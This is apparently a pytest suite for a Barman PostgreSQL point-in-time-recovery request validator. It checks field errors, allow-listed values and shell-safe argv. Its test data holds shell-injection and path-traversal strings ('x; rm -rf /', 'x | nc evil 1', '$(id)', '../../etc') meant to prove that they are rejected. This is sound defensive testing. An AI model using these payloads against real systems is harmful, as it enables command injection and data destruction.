"""validate_pitr_conf: every rejection names the field; whatever is accepted is allow-listed."""

from __future__ import annotations

import re
import shlex
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from barman_dr.exceptions import ValidationError
from barman_dr.inventory import parse_inventory
from barman_dr.models import RecoveryTarget
from barman_dr.params.pitr_request import (
    KNOWN_FIELDS,
    MAX_JOBS,
    PitrRequest,
    confirm_text,
    validate_pitr_conf,
)

LAB_YAML = Path(__file__).resolve().parents[2] / "include" / "inventory" / "lab.yaml"
NOW = datetime(2026, 11, 25, 14, 0, 0, tzinfo=UTC)
SERVER = "pg-primary"


@pytest.fixture(scope="module")
def inv():
    return parse_inventory(yaml.safe_load(LAB_YAML.read_text()), str(LAB_YAML),
                           {"LAB_DIR": "/var/tmp/lab-x", "LAB_NET": "127.0.77"})


def ok(inv, **conf):
    return validate_pitr_conf({"server": SERVER, **conf}, inv, now=NOW)


def rejected(inv, conf, field: str) -> ValidationError:
    with pytest.raises(ValidationError) as ei:
        validate_pitr_conf(conf, inv, now=NOW)
    assert ei.value.field == field, f"expected the error to name {field!r}, got {ei.value.field!r}: {ei.value}"
    assert str(ei.value).startswith(f"{field}: ")
    assert ei.value.fix
    return ei.value


# ----------------------------------------------------------------- accepted


def test_time_target_plan_only(inv):
    r = ok(inv, target_time="2026-11-25T12:59:41+00:00")
    assert isinstance(r, PitrRequest)
    assert r.target == RecoveryTarget("time", "2026-11-25T12:59:41+00:00", True)
    assert r.confirmed is False  # empty confirm: plan only
    assert r.backup_id == "auto" and r.restore_to == "in_place" and r.in_place
    assert r.jobs == 1 and r.expected == {} and r.incident_id is None and r.reason is None
    assert r.staging is False
    assert r.requested_at == NOW.isoformat()


@pytest.mark.parametrize(("given_time", "utc"), [
    ("2026-11-25T12:59:41Z", "2026-11-25T12:59:41+00:00"),
    ("2026-11-25T12:59:41z", "2026-11-25T12:59:41+00:00"),
    ("2026-11-25 12:59:41+00", "2026-11-25T12:59:41+00:00"),
    ("2026-11-25T12:59:41.509163+00:00", "2026-11-25T12:59:41.509163+00:00"),
    ("2026-11-25T14:29:41+01:30", "2026-11-25T12:59:41+00:00"),
    ("2026-11-25T07:59:41-05:00", "2026-11-25T12:59:41+00:00"),
])
def test_time_normalised_to_utc(inv, given_time, utc):
    assert ok(inv, target_time=given_time).target.value == utc


def test_confirmed(inv):
    r = ok(inv, target_xid="745", confirm="PITR pg-primary")
    assert r.confirmed is True
    assert r.confirm_text() == confirm_text(SERVER) == "PITR pg-primary"


@pytest.mark.parametrize("empty", ["", None])
def test_empty_confirm_is_plan_only(inv, empty):
    assert ok(inv, target_xid="745", confirm=empty).confirmed is False


def test_all_fields(inv):
    r = ok(inv, target_xid="0745", target_inclusive=False, backup_id="20261125T133925", restore_to="pg-standby",
           expected={"orders_total": 10500, "orders_completed": 0}, incident_id="INC-123",
           reason="Bad migration at 12:59 (ticket #42) by ops@example", jobs=MAX_JOBS, confirm="PITR pg-primary",
           staging=True)
    assert r.target == RecoveryTarget("xid", "745", False)
    assert r.target.barman_args() == ["--target-xid", "745", "--exclusive"]
    assert r.backup_id == "20261125T133925"
    assert r.restore_to == "pg-standby" and not r.in_place
    assert r.expected == {"orders_total": 10500, "orders_completed": 0}
    assert r.incident_id == "INC-123" and r.jobs == MAX_JOBS and r.confirmed and r.staging


def test_lsn_name_immediate(inv):
    assert ok(inv, target_lsn="0/5000148").target == RecoveryTarget("lsn", "0/5000148", True)
    assert ok(inv, target_lsn="a/b").target.value == "A/B"
    assert ok(inv, target_name="before-migration:v2").target == RecoveryTarget("name", "before-migration:v2", True)
    imm = ok(inv, target_immediate=True, target_inclusive=False)
    assert imm.target == RecoveryTarget("immediate", None, True)
    # an unticked immediate box next to another target is not a second target
    assert ok(inv, target_immediate=False, target_xid="745").target.kind == "xid"


def test_roundtrip_through_dict(inv):
    r = ok(inv, target_time="2026-11-25T12:59:41Z", expected={"orders_total": 3}, incident_id="INC-1")
    d = r.to_dict()
    assert d["target"] == {"kind": "time", "value": "2026-11-25T12:59:41+00:00", "inclusive": True}
    assert PitrRequest.from_dict(d) == r


def test_none_means_default(inv):
    r = ok(inv, target_xid="745", jobs=None, target_inclusive=None, backup_id=None, restore_to="")
    assert r.jobs == 1 and r.target.inclusive and r.backup_id == "auto" and r.restore_to == "in_place"


def test_staged_restore_defaults_on(inv):
    assert ok(inv, target_xid="745").staged_restore is True
    assert ok(inv, target_xid="745", staged_restore=None).staged_restore is True
    assert ok(inv, target_xid="745", staged_restore=False).staged_restore is False
    assert PitrRequest.from_dict(ok(inv, target_xid="745", staged_restore=False).to_dict()).staged_restore is False


# ----------------------------------------------------------------- rejected


def test_not_a_dict(inv):
    rejected(inv, ["server", SERVER], "conf")


def test_unknown_parameter(inv):
    err = rejected(inv, {"server": SERVER, "target_xid": "745", "targt_time": "x"}, "targt_time")
    assert "known:" in str(err)


def test_two_targets(inv):
    err = rejected(inv, {"server": SERVER, "target_time": "2026-11-25T12:00:00Z", "target_xid": "745"},
                   "target_time, target_xid")
    assert "exactly one" in str(err)


def test_three_targets_incl_immediate(inv):
    rejected(inv, {"server": SERVER, "target_lsn": "0/1", "target_name": "x", "target_immediate": True},
             "target_lsn, target_name, target_immediate")


@pytest.mark.parametrize("conf", [{}, {"target_time": ""}, {"target_time": None, "target_immediate": False}])
def test_no_target(inv, conf):
    err = rejected(inv, {"server": SERVER, **conf}, "target")
    assert "exactly one" in str(err)


def test_future_time(inv):
    err = rejected(inv, {"server": SERVER, "target_time": (NOW + timedelta(minutes=1)).isoformat()}, "target_time")
    assert "future" in str(err)


def test_time_exactly_now_is_accepted(inv):
    assert ok(inv, target_time=NOW.isoformat()).target.time == NOW


@pytest.mark.parametrize("naive", ["2026-11-25T12:59:41", "2026-11-25 12:59:41", "2026-11-25"])
def test_naive_time(inv, naive):
    err = rejected(inv, {"server": SERVER, "target_time": naive}, "target_time")
    assert "timezone" in str(err)


@pytest.mark.parametrize("bad", ["yesterday", "2026-13-01T00:00:00Z", "2026-11-25T25:00:00Z", "12:59",
                                 "2026-11-25T12:59:41+00:00 ; rm -rf /", "2026-11-25T12:59:41+00:00" + "0" * 20])
def test_malformed_time(inv, bad):
    rejected(inv, {"server": SERVER, "target_time": bad}, "target_time")


@pytest.mark.parametrize("edge", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59"])
def test_time_at_the_edge_of_the_range(inv, edge):
    rejected(inv, {"server": SERVER, "target_time": edge}, "target_time")


@pytest.mark.parametrize("bad", ["abc", "1", "2", "-5", "7.5", "1e3", "0x2e9", "745 ", "12345678901234567890", "7 45"])
def test_malformed_xid(inv, bad):
    if bad == "745 ":  # surrounding blanks are stripped: accepted
        assert ok(inv, target_xid=bad).target.value == "745"
        return
    rejected(inv, {"server": SERVER, "target_xid": bad}, "target_xid")


@pytest.mark.parametrize("bad", [745, 7.5, True, ["745"]])
def test_xid_not_a_string(inv, bad):
    field = "target_xid"
    err = rejected(inv, {"server": SERVER, field: bad}, field)
    assert "string" in str(err)


@pytest.mark.parametrize("bad", ["5000148", "0/", "/5000148", "0/5000148/0", "0:5000148", "123456789/0", "0/XYZ",
                                 "0x0/0x1"])
def test_malformed_lsn(inv, bad):
    rejected(inv, {"server": SERVER, "target_lsn": bad}, "target_lsn")


@pytest.mark.parametrize("value", ["yes", 2, "true", "false"])
def test_target_immediate_must_be_bool(inv, value):
    rejected(inv, {"server": SERVER, "target_immediate": value}, "target_immediate")


@pytest.mark.parametrize("value", ["false", 0, "no"])
def test_target_inclusive_must_be_bool(inv, value):
    rejected(inv, {"server": SERVER, "target_xid": "745", "target_inclusive": value}, "target_inclusive")


@pytest.mark.parametrize("server", ["pg-other", "", None, "PG-PRIMARY", "pg-primary;id", 5, "pg primary"])
def test_unknown_server(inv, server):
    err = rejected(inv, {"server": server, "target_xid": "745"}, "server")
    if isinstance(server, str) and server and ";" not in server and " " not in server:
        assert "pg-primary" in str(err)  # the fix lists the known servers


@pytest.mark.parametrize("confirm", ["pitr pg-primary", "PITR", "PITR pg-standby", "yes", "PITR  pg-primary",
                                     "PITR pg-primary!"])
def test_bad_confirm(inv, confirm):
    err = rejected(inv, {"server": SERVER, "target_xid": "745", "confirm": confirm}, "confirm")
    assert "PITR pg-primary" in str(err)


@pytest.mark.parametrize("confirm", [True, 1, ["PITR pg-primary"]])
def test_confirm_not_a_string(inv, confirm):
    rejected(inv, {"server": SERVER, "target_xid": "745", "confirm": confirm}, "confirm")


@pytest.mark.parametrize("backup_id", ["latest", "20261125", "20261125T1339250", "20261125T13392;", "../../etc",
                                       "20261125t133925", "x" * 300])
def test_bad_backup_id(inv, backup_id):
    rejected(inv, {"server": SERVER, "target_xid": "745", "backup_id": backup_id}, "backup_id")


@pytest.mark.parametrize("restore_to", ["pg-nonprod", "/tmp/x", "standby", "pg-primary"])
def test_bad_restore_to(inv, restore_to):
    err = rejected(inv, {"server": SERVER, "target_xid": "745", "restore_to": restore_to}, "restore_to")
    assert "pg-standby" in str(err)


def test_expected_unknown_key(inv):
    err = rejected(inv, {"server": SERVER, "target_xid": "745", "expected": {"orders": 1}}, "expected.orders")
    assert "orders_total" in str(err)


def test_expected_unknown_weird_key(inv):
    rejected(inv, {"server": SERVER, "target_xid": "745", "expected": {"x" * 100: 1}}, "expected")
    rejected(inv, {"server": SERVER, "target_xid": "745", "expected": {"ordérs": 1}}, "expected")


@pytest.mark.parametrize("value", ["10", 1.0, -1, True, None, [1]])
def test_expected_non_int(inv, value):
    rejected(inv, {"server": SERVER, "target_xid": "745", "expected": {"orders_total": value}}, "expected.orders_total")


@pytest.mark.parametrize("value", ["orders_total=1", 5, [], "", 0, False])
def test_expected_not_an_object(inv, value):
    rejected(inv, {"server": SERVER, "target_xid": "745", "expected": value}, "expected")


@pytest.mark.parametrize("jobs", [0, MAX_JOBS + 1, -1, "2", 1.5, True])
def test_bad_jobs(inv, jobs):
    rejected(inv, {"server": SERVER, "target_xid": "745", "jobs": jobs}, "jobs")


@pytest.mark.parametrize("staging", ["true", 1, "no"])
def test_bad_staging(inv, staging):
    rejected(inv, {"server": SERVER, "target_xid": "745", "staging": staging}, "staging")


@pytest.mark.parametrize("value", ["false", 0, "yes", [True]])
def test_bad_staged_restore(inv, value):
    err = rejected(inv, {"server": SERVER, "target_xid": "745", "staged_restore": value}, "staged_restore")
    assert "downtime" in str(err)


# --------------------------------------------- free-text fields: the allow-lists

HOSTILE = [
    "x; rm -rf /", "x | nc evil 1", "x && true", "$(id)", "${HOME}", "`id`", "x > /etc/passwd", "x < /dev/zero",
    "line1\nline2", "it's", 'say "hi"', "back\\slash", "nul\x00byte", "tab\there", "caf\u00e9", "\u202eevil",
    "x\r", "emoji \U0001f600", "del\x7f",
]

FREE_TEXT_FIELDS = {
    # field: (a valid value, max length that is still accepted)
    "reason": ("Bad migration", 500),
    "incident_id": ("INC-123", 64),
    "backup_id": ("20261125T133925", None),
    "server": (SERVER, None),
}


def conf_with(field: str, value):
    if field.startswith("target_"):
        return {"server": SERVER, field: value}
    conf = {"server": SERVER, "target_xid": "745"}
    conf[field] = value
    return conf


@pytest.mark.parametrize("field", list(FREE_TEXT_FIELDS))
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_rejected(inv, field, value):
    if field == "reason" and value in ("tab\there",):
        rejected(inv, conf_with(field, value), field)  # control character
        return
    rejected(inv, conf_with(field, value), field)


@pytest.mark.parametrize("field", list(FREE_TEXT_FIELDS))
def test_valid_free_text_accepted(inv, field):
    valid, _ = FREE_TEXT_FIELDS[field]
    validate_pitr_conf(conf_with(field, valid), inv, now=NOW)


# ------------------------------------------ restore point names: any text PostgreSQL accepts


@pytest.mark.parametrize("name", [v for v in HOSTILE if "\x00" not in v] + [
    'before "deploy" 42 \u2014 \u00fc', "before migration 42", " leading and trailing ", "'", "x" * 63,
    "\u00e9" * 31 + "a"])
def test_any_restore_point_name_postgresql_accepts_is_taken_literally(inv, name):
    req = validate_pitr_conf({"server": SERVER, "target_name": name}, inv, now=NOW)
    assert req.target == RecoveryTarget("name", name, True)
    assert PitrRequest.from_dict(req.to_dict()).target.value == name  # survives the XCom round trip


@pytest.mark.parametrize("name", ["x" * 64, "\u00e9" * 32, "nul\x00byte", "\x00"])
def test_restore_point_names_postgresql_refuses_are_rejected(inv, name):
    err = rejected(inv, {"server": SERVER, "target_name": name}, "target_name")
    assert "63 bytes" in err.fix or "NUL" in err.fix


def test_target_name_lsn_picks_an_occurrence(inv):
    req = validate_pitr_conf({"server": SERVER, "target_name": "before_deploy", "target_name_lsn": "0/9000150"},
                             inv, now=NOW)
    assert req.target_name_lsn == "0/9000150"
    assert PitrRequest.from_dict(req.to_dict()).target_name_lsn == "0/9000150"


@pytest.mark.parametrize(("conf", "field"), [
    ({"target_xid": "745", "target_name_lsn": "0/9000150"}, "target_name_lsn"),
    ({"target_name": "x", "target_name_lsn": "not-an-lsn"}, "target_name_lsn"),
    ({"target_name": "x", "target_name_lsn": "0/1; id"}, "target_name_lsn"),
])
def test_target_name_lsn_refused(inv, conf, field):
    rejected(inv, {"server": SERVER, **conf}, field)


def test_a_name_never_reaches_barman_as_a_name():
    """The restore uses the resolved occurrence's LSN: no name is written into postgresql.auto.conf."""
    from barman_dr.forensics.target_resolution import StopPoint, restore_target_for

    stop = StopPoint(kind="restore_point", when="after", lsn="0/9000150", timeline=1, end_lsn="0/9000190")
    rt = restore_target_for(RecoveryTarget("name", "it's \"x\"\n", True), stop)
    assert rt == RecoveryTarget("lsn", "0/9000150", True)
    assert rt.barman_args() == ["--target-lsn", "0/9000150"]


@pytest.mark.parametrize(("field", "limit"), [(f, m) for f, (_, m) in FREE_TEXT_FIELDS.items() if m])
def test_over_long(inv, field, limit):
    at_limit = "A" * limit
    r = validate_pitr_conf(conf_with(field, at_limit), inv, now=NOW)
    assert at_limit in (r.target.value, r.reason, r.incident_id)
    rejected(inv, conf_with(field, "A" * (limit + 1)), field)


def test_over_long_target_time(inv):
    rejected(inv, {"server": SERVER, "target_time": "2026-11-25T12:59:41" + " " * 30 + "+00:00"}, "target_time")


@pytest.mark.parametrize("field", ["reason", "incident_id", "target_name", "backup_id", "restore_to", "target_lsn"])
def test_non_string_rejected(inv, field):
    rejected(inv, conf_with(field, 12345), field)


# --------------------------------------------------------- property: allow-lists

#: what an accepted request may contain, field by field (stricter than or equal to the validator)
ALLOWED = {
    "server": re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,62}$"),
    "backup_id": re.compile(r"^(auto|[0-9]{8}T[0-9]{6})$"),
    "restore_to": re.compile(r"^(in_place|[A-Za-z0-9][A-Za-z0-9._-]{0,62})$"),
    "incident_id": re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$"),
    "reason": re.compile(r"^[A-Za-z0-9 .,:_\-()/#@+=]{0,500}$"),
    "requested_at": re.compile(r"^[0-9T:.+-]+$"),
}
TARGET_ALLOWED = {
    "time": re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?\+00:00$"),
    "xid": re.compile(r"^[1-9][0-9]{0,19}$"),
    "lsn": re.compile(r"^[0-9A-F]{1,8}/[0-9A-F]{1,8}$"),
}
SHELL_META = set(";|&$`<>\n'\"\\") | {"\x00", "\r"}


def all_strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from all_strings(k)
            yield from all_strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from all_strings(v)


nasty_text = st.text(st.characters(codec="utf-8"), max_size=80) | st.text(
    st.sampled_from([*"aZ09 .-_:/#@+=(),;|&$`<>\n'\"\\\x00\t", "é", "\u202e"]), max_size=40)
maybe = st.none() | st.just("")

iso_time = st.datetimes(min_value=datetime(2000, 1, 1), max_value=datetime(2100, 1, 1),
                        timezones=st.sampled_from([UTC, timezone(timedelta(hours=5, minutes=30)),
                                                   timezone(timedelta(hours=-8))]) | st.none()).map(
    lambda d: d.isoformat())

conf_strategy = st.fixed_dictionaries(
    {"server": st.sampled_from([SERVER, " pg-primary ", "pg-standby"]) | nasty_text},
    optional={
        "target_time": iso_time | nasty_text | maybe,
        "target_xid": st.integers(0, 10**20).map(str) | nasty_text | maybe,
        "target_lsn": st.tuples(st.integers(0, 2**32 - 1), st.integers(0, 2**32 - 1)).map(
            lambda t: f"{t[0]:X}/{t[1]:x}") | nasty_text | maybe,
        "target_name": st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,70}", fullmatch=True) | nasty_text | maybe
        | st.text(max_size=70),
        "target_immediate": st.booleans() | st.none(),
        "target_inclusive": st.booleans() | st.none(),
        "backup_id": st.sampled_from(["auto", "20261125T133925"]) | nasty_text | maybe,
        "restore_to": st.sampled_from(["in_place", "pg-standby"]) | nasty_text | maybe,
        "incident_id": st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,70}", fullmatch=True) | nasty_text | maybe,
        "reason": nasty_text | st.from_regex(r"[A-Za-z0-9 .,:_()/#@+=-]{0,20}", fullmatch=True) | maybe,
        "jobs": st.integers(-2, MAX_JOBS + 2) | st.none(),
        "confirm": st.sampled_from(["PITR pg-primary", "PITR pg-standby"]) | nasty_text | maybe,
        "expected": st.dictionaries(st.sampled_from(["orders_total", "orders_completed"]) | nasty_text,
                                    st.integers(-1, 10**6), max_size=2),
        "staging": st.booleans(),
        "staged_restore": st.booleans() | st.none() | nasty_text,
    },
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(conf=conf_strategy)
def test_property_accepted_requests_are_allow_listed(inv, conf):
    try:
        req = validate_pitr_conf(conf, inv, now=NOW)
    except ValidationError as exc:
        # every rejection names a field of the request (or the request itself)
        names = {*KNOWN_FIELDS, "target", "conf"}
        assert exc.field.split(".")[0] in names or all(p in names for p in exc.field.split(", "))
        return
    d = req.to_dict()
    for key, rx in ALLOWED.items():
        if d[key] is not None:
            assert rx.match(d[key]), (key, d[key])
    t = d["target"]
    if t["kind"] == "immediate":
        assert t["value"] is None
    elif t["kind"] == "name":
        # any text PostgreSQL accepts, exactly as given: at most 63 bytes, no NUL
        assert t["value"] == conf["target_name"] and "\x00" not in t["value"]
        assert len(t["value"].encode("utf-8")) <= 63
    else:
        assert TARGET_ALLOWED[t["kind"]].match(t["value"]), t
    for k in d["expected"]:
        assert re.match(r"^[a-z_]+$", k)
    for s in all_strings({k: v for k, v in d.items() if k != "target"} | {"target": t if t["kind"] != "name" else {}}):
        assert not (set(s) & SHELL_META), s
        assert s.isascii()
    # and the barman argv built from it is made of the same allow-listed strings (a name becomes its resolved LSN)
    from barman_dr.forensics.target_resolution import StopPoint, restore_target_for

    stop = StopPoint(kind="restore_point", when="after", lsn="0/9000150", timeline=1)
    for arg in restore_target_for(req.target, stop).barman_args():
        assert not (set(arg) & SHELL_META)
    # the argv crosses SSH as one shell-quoted string: it must come back exactly
    argv = ["barman", "restore", *req.target.barman_args()]
    assert shlex.split(shlex.join(argv)) == argv
    assert req.confirmed == (conf.get("confirm") == f"PITR {req.server}")
